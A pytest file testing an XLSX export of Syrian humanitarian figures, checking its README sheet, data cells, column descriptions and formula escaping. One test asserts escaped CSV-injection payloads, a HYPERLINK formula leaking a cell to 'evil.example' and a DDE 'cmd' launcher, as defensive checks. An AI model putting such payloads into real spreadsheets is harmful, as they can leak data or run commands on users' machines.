"""The XLSX export: README sheet (filters, date, licences), then the same cells as the CSV."""

from __future__ import annotations

import datetime as dt
import io

import openpyxl
import pytest
from export_madeup import made_up_bundle

from app.export.columns import EXPORT_COLUMNS, hxl_row
from app.export.params import ExportParams
from app.export.rows import export_table
from app.export.xlsx_writer import readme_from_datapackage, xlsx_bytes

EXTRACTED = dt.datetime(2026, 11, 25, 12, 0, 0, tzinfo=dt.UTC)


@pytest.fixture(scope="module")
def workbook(bundle):
    table = export_table(made_up_bundle(bundle), ExportParams(), [])
    readme = readme_from_datapackage(
        bundle.datapackage,
        [("as_of", "2020-02-16")],
        EXTRACTED,
        url="http://127.0.0.1:8050/export/figures.xlsx?as_of=2020-02-16",
    )
    data = xlsx_bytes(table, readme, hxl=True)
    return openpyxl.load_workbook(io.BytesIO(data))


def test_sheets(workbook) -> None:
    assert workbook.sheetnames == ["README", "data"]


def test_readme_says_what_when_and_under_which_licence(workbook, bundle) -> None:
    cells = [
        [c for c in row if c is not None] for row in workbook["README"].iter_rows(values_only=True)
    ]
    text = "\n".join(" | ".join(str(c) for c in row) for row in cells)
    assert cells[0] == [f"{bundle.datapackage['title']}: figures export"]
    assert ["Rows", 3] in cells
    assert ["Extracted (UTC)", "2026-11-25 12:00:00"] in cells
    assert ["as_of", "2020-02-16"] in cells
    for lic in bundle.datapackage["licenses"]:
        assert lic["title"] in text
    assert "Boundaries: UN OCHA / UNCS (COD-AB Syria), CC BY 3.0 IGO" in text
    assert "figure_id | text | #meta+id" in text  # the column table, with hashtags


def test_data_sheet(workbook) -> None:
    rows = list(workbook["data"].iter_rows(values_only=True))
    assert list(rows[0]) == EXPORT_COLUMNS
    assert list(rows[1]) == hxl_row(
        EXPORT_COLUMNS, ["civilians_killed", "idp_arrivals", "idps_displaced_since"]
    )
    first = dict(zip(EXPORT_COLUMNS, rows[2], strict=True))
    assert first["value"] == 12.5 and first["low"] == 11 and first["source_row"] == 4
    assert first["period_end"] == dt.datetime(2020, 1, 31)  # a date cell, not text
    assert first["ADM2_AR"] == "حارم"
    last = dict(zip(EXPORT_COLUMNS, rows[4], strict=True))
    assert last["ADM3_AR"] == "الدانا" and last["duplicate"] is False


def test_no_cell_is_a_formula(workbook) -> None:
    ws = workbook["data"]
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")' in values
    assert "'+cmd|' /C calc'!A0" in values
    assert "'-5 (a text cell that starts with a minus)" in values


def test_readme_describes_every_column(workbook) -> None:
    from app.export.columns import COLUMN_DESCRIPTIONS

    rows = [list(r) for r in workbook["README"].iter_rows(values_only=True)]
    start = next(i for i, r in enumerate(rows) if r[:2] == ["Column", "type"])
    described = {r[0]: r[3] for r in rows[start + 1 :] if r and r[0]}
    assert list(described) == EXPORT_COLUMNS  # 33 columns, in the data sheet's order
    assert len(described) == 33
    for col, meaning in described.items():
        assert meaning == COLUMN_DESCRIPTIONS[col], col
    assert described["kind"].startswith("what the number measures over time")
